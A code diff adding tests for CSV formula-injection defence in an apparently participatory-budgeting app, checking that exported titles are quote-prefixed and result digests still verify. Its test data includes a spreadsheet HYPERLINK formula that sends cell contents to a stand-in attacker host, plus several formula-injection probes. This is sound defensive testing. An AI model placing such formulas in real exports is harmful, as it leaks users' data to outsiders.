@@ -30,6 +30,44 @@ def test_results_csv(client, published_cycle):
     assert client.get(f"/api/v1/cycles/{ids['cycle']}/results.csv").data == response.data
 
 
+def test_results_csv_neutralises_formulas_and_keeps_numbers_and_digest(app, client, counted_cycle,
+                                                                       staff):
+    from app.domain.open_data import digest_of_payload, digest_payload_from_json
+    from app.models import Cycle, Proposal
+
+    ids = counted_cycle()
+    hostile = {"A": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "B": "+1+2",
+               "C": "@SUM(1,1)", "D": "-2+3"}
+    with app.app_context():
+        for key, title in hostile.items():
+            db.session.get(Proposal, ids["proposals"][key]).title = title
+        db.session.commit()
+    conclude_all(app, ids, staff[0])
+    publish(app, ids, staff[0])
+    with app.app_context():
+        digest = db.session.get(Cycle, ids["cycle"]).results_digest
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/cycles/{ids['cycle']}/results.csv")
+                                           .get_data(as_text=True))))
+    by_id = {int(r["proposal_id"]): r for r in rows}
+    for key, title in hostile.items():
+        row = by_id[ids["proposals"][key]]
+        assert row["title"] == "'" + title
+        assert row["cost"].isdigit() and row["votes"].isdigit()  # numbers stay numbers
+    # The digest is of the JSON results, whose texts are unchanged: it still verifies.
+    document = client.get(f"/api/v1/cycles/{ids['cycle']}/results").get_json()
+    assert {p["title"] for p in document["proposals"]} == set(hostile.values())
+    assert digest_of_payload(digest_payload_from_json(document)) == digest
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Сквер", "Сквер"), ("", ""),
+    (-5, -5), (8000000, 8000000), ("a=b", "a=b")])
+def test_neutralise_cell(value, expected):
+    from app.domain.open_data import neutralise_cell
+
+    assert neutralise_cell(value) == expected
+
+
 def test_ballots_pb_is_anonymous(app, client, published_cycle):
     ids = published_cycle()
     text = client.get(f"/cycles/{ids['cycle']}/ballots.pb").get_data(as_text=True)
